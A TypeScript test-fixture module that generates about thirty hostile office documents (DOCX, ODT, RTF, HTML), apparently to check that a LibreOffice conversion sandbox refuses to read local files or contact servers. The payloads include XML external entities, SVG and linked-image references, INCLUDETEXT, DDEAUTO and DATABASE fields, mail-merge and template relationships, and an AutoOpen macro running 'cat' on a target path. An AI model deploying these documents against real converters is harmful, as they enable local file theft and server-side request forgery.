/** Documents that ask LibreOffice for a file or an address, each in a way of its own. */
import { deflateSync, strToU8, zipSync } from 'fflate';

import { docx, p, r } from '../muestras/plantillas/docx';

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const TYPES = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

interface Where {
  /** A file that it must not read: as an address and as a path. */
  file: string;
  /** The address of a server that must not be asked. */
  address: string;
}

export interface Hostile {
  name: string;
  bytes: Uint8Array;
}

const drawing = (blip: string): string =>
  `<w:r><w:drawing><wp:inline><wp:extent cx="3600000" cy="3600000"/><wp:docPr id="1" name="x"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3600000" cy="3600000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;

const field = (code: string): string =>
  `<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>antes</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;

const relations = (...all: string[]): string =>
  `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
const relation = (type: string, target: string, mode = ''): string =>
  `<Relationship Id="h1" Type="${R}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;

const types = (more: string): string =>
  `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${more}<Override PartName="/word/document.xml" ContentType="${TYPES}.document.main+xml"/></Types>`;

/** A document whose relation `h1` names a part or something outside. */
const related = (run: string, rel: string, parts: Record<string, string | Uint8Array> = {}, more = '') =>
  docx({
    body: p(r('Hola '), run),
    extra: { 'word/_rels/document.xml.rels': relations(rel), '[Content_Types].xml': types(more), ...parts },
  });

const svg = (inside: string, before = '') =>
  related(
    drawing('r:embed="h1"'),
    relation('image', 'media/a.svg'),
    {
      'word/media/a.svg': `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">${inside}<rect width="9" height="9"/></svg>`,
    },
    '<Default Extension="svg" ContentType="image/svg+xml"/>',
  );

const packed = (text: string): Uint8Array => deflateSync(strToU8(text));

function odt(content: string, mimetype = 'application/vnd.oasis.opendocument.text'): Uint8Array {
  return zipSync({
    mimetype: [strToU8(mimetype), { level: 0 }],
    'META-INF/manifest.xml': strToU8(
      `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    ),
    'content.xml': strToU8(
      `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2"><office:body><office:text>${content}<text:p>Hola</text:p></office:text></office:body></office:document-content>`,
    ),
  });
}

export function hostiles({ file, address }: Where): Hostile[] {
  const url = `file://${file}`;
  const all: [string, (target: string) => Uint8Array][] = [
    ['an image in an SVG', (to) => svg(`<image href="${to}" width="400" height="400"/>`)],
    [
      'an image in an SVG, as it was written before',
      (to) => svg(`<image xlink:href="${to}" width="400" height="400"/>`),
    ],
    ['a shape of another file in an SVG', (to) => svg(`<use xlink:href="${to}#a"/>`)],
    ['a style sheet of an SVG', (to) => svg('', `<?xml-stylesheet type="text/css" href="${to}"?>`)],
    [
      'an entity of an SVG',
      (to) => svg('<text y="50">&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "${to}">]>`),
    ],
    ['a linked image', (to) => related(drawing('r:link="h1"'), relation('image', to, 'External'))],
    [
      'an image that is inside and linked',
      (to) => related(drawing('r:embed="h1"'), relation('image', to, 'External')),
    ],
    [
      'an image of a VML shape',
      (to) =>
        related(
          `<w:r><w:pict><v:shape style="width:300pt;height:300pt"><v:imagedata src="${to}" r:id="h1"/></v:shape></w:pict></w:r>`,
          relation('image', to, 'External'),
        ),
    ],
    ['INCLUDETEXT', (to) => docx({ body: p(r('Hola '), field(`INCLUDETEXT "${to}"`)) })],
    ['INCLUDEPICTURE', (to) => docx({ body: p(r('Hola '), field(`INCLUDEPICTURE "${to}" \\d`)) })],
    ['IMPORT', (to) => docx({ body: p(r('Hola '), field(`IMPORT "${to}"`)) })],
    ['DDEAUTO', (to) => docx({ body: p(r('Hola '), field(`DDEAUTO soffice "${to}" a`)) })],
    ['LINK', (to) => docx({ body: p(r('Hola '), field(`LINK Word.Document.12 "${to}" "" \\a \\t`)) })],
    ['RD', (to) => docx({ body: p(r('Hola '), field(`RD "${to}"`), field('TOC \\o "1-3"')) })],
    ['DATABASE', (to) => docx({ body: p(r('Hola '), field(`DATABASE \\d "${to}" \\s "select * from a"`)) })],
    [
      'a source of data',
      (to) =>
        docx({
          body: p(r('Hola ')),
          extra: {
            'word/settings.xml': `${HEAD}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/><w:connectString w:val="${to}"/><w:query w:val="SELECT * FROM a"/><w:dataSource r:id="h1"/></w:mailMerge></w:settings>`,
            'word/_rels/settings.xml.rels': relations(relation('mailMergeSource', to, 'External')),
            'word/_rels/document.xml.rels': relations(relation('settings', 'settings.xml')),
          },
        }),
    ],
    [
      'an attached template',
      (to) =>
        docx({
          body: p(r('Hola ')),
          extra: {
            'word/settings.xml': `${HEAD}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}"><w:attachedTemplate r:id="h1"/></w:settings>`,
            'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', to, 'External')),
            'word/_rels/document.xml.rels': relations(relation('settings', 'settings.xml')),
          },
        }),
    ],
    [
      'a linked object',
      (to) =>
        related(
          `<w:object><v:shape id="s1" style="width:300pt;height:300pt"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" ShapeID="s1" DrawAspect="Content" r:id="h1" UpdateMode="Always"/></w:object>`,
          relation('oleObject', to, 'External'),
        ),
    ],
    [
      'a page to take in',
      (to) =>
        related(
          '',
          relation('aFChunk', 'a.html'),
          {
            'word/a.html': `<html><img src="${to}"><iframe src="${to}"></iframe><link rel="stylesheet" href="${to}"></html>`,
          },
          '<Default Extension="html" ContentType="text/html"/>',
        ),
    ],
    ['a page outside to take in', (to) => related('', relation('aFChunk', to, 'External'))],
    ['a document outside to take in', (to) => related('', relation('subDocument', to, 'External'))],
    [
      'an object with an OpenDocument in it',
      (to) =>
        related(
          `<w:object><v:shape id="s1" style="width:300pt;height:300pt"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="opendocument.WriterDocument.1" ShapeID="s1" DrawAspect="Content" r:id="h1"/></w:object>`,
          relation('package', 'embeddings/a.odt'),
          {
            'word/embeddings/a.odt': odt(
              `<text:section text:name="a"><text:section-source xlink:href="${to}"/></text:section>`,
            ),
          },
          '<Default Extension="odt" ContentType="application/vnd.oasis.opendocument.text"/>',
        ),
    ],
    [
      'an entity of its text',
      (to) =>
        docx({
          body: '',
          extra: {
            'word/document.xml': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a SYSTEM "${to}">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hola &a;</w:t></w:r></w:p></w:body></w:document>`,
          },
        }),
    ],
    [
      'its text in a part of another name',
      (to) =>
        docx({
          body: '',
          extra: {
            '_rels/.rels': relations(`<Relationship Id="a" Type="${R}/officeDocument" Target="word/a.bin"/>`),
            '[Content_Types].xml': types(
              `<Override PartName="/word/a.bin" ContentType="${TYPES}.document.main+xml"/>`,
            ),
            'word/a.bin': `${HEAD}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${p(r('Hola'), field(`INCLUDETEXT "${to}"`))}</w:body></w:document>`,
          },
        }),
    ],
    [
      'a macro',
      (to) =>
        related(
          '',
          `<Relationship Id="h1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
          { 'word/vbaProject.bin': packed(`Sub AutoOpen()\nShell "cat ${to}"\nEnd Sub`) },
        ),
    ],
    [
      'an OpenDocument in disguise, with a section of another file',
      (to) =>
        odt(
          `<text:section text:name="a"><text:section-source xlink:href="${to}"/><text:p>x</text:p></text:section>`,
        ),
    ],
    [
      'an OpenDocument in disguise, with an image of elsewhere',
      (to) =>
        odt(
          `<text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:image xlink:href="${to}"/></draw:frame></text:p>`,
        ),
    ],
    [
      'an RTF in disguise',
      (to) =>
        strToU8(
          `{\\rtf1 Hola {\\field{\\*\\fldinst INCLUDETEXT "${to}"}{\\fldrslt antes}}{\\field{\\*\\fldinst INCLUDEPICTURE "${to}" \\\\d}{\\fldrslt antes}}}`,
        ),
    ],
    [
      'a page in disguise',
      (to) => strToU8(`<html><body>Hola<img src="${to}"><iframe src="${to}"></iframe></body></html>`),
    ],
    [
      'a text that LibreOffice would read as flat XML',
      (to) =>
        strToU8(
          `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:section text:name="a"><text:section-source xlink:href="${to}"/></text:section></office:text></office:body></office:document>`,
        ),
    ],
  ];
  return all.flatMap(([name, make]) =>
    [url, address].map((to) => ({ name: `${name} (${to === url ? 'file' : 'address'})`, bytes: make(to) })),
  );
}
